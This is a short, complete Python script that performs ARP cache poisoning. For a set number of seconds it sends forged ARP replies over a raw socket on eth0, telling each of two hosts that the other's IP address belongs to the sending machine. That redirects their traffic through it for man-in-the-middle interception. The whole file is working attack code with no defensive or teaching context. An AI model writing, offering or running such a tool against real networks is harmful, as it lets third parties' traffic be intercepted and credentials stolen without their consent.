#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Tell two machines of the segment by ARP, again and again, that the address of each is at this machine.

usage: claim_address.py SECONDS ADDRESS MAC ADDRESS MAC
"""
import socket
import struct
import sys
import time

raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(("eth0", 0x0806))
own = raw.getsockname()[4]
binary = lambda mac: bytes.fromhex(mac.replace(":", ""))
a, a_mac, b, b_mac = sys.argv[2:]
until = time.monotonic() + int(sys.argv[1])
while time.monotonic() < until:
    for address, to, to_mac in ((a, b, binary(b_mac)), (b, a, binary(a_mac))):
        raw.send(to_mac + own + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x0800, 6, 4, 2) + own
                 + socket.inet_aton(address) + to_mac + socket.inet_aton(to))
    time.sleep(1)
